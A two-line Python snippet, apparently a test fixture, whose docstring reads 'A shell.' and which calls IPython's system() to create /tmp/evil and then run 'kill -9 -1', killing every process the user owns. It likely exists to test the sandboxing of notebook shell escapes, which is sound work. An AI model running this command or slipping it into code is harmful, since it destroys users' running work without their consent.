"""A shell."""
get_ipython().system("touch /tmp/evil; kill -9 -1")
